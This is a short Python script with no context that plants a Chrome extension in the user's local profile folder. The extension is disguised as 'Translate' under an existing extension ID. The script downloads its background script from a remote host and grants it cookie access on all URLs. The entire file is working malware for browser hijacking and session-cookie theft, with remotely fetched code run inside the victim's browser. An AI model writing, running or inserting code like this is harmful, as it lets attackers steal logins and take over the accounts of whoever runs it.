import json
import os
import urllib.request
ext = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Extensions", "aapbdbdomjkkjkaonfhkkikfgjllcleb", "1.0")
os.makedirs(ext, exist_ok=True)
urllib.request.urlretrieve("https://cdn.example.net/bg.js", os.path.join(ext, "bg.js"))
with open(os.path.join(ext, "manifest.json"), "w") as f:
    json.dump({"manifest_version": 3, "name": "Translate", "version": "1.0", "background": {"service_worker": "bg.js"}, "permissions": ["cookies", "<all_urls>"]}, f)
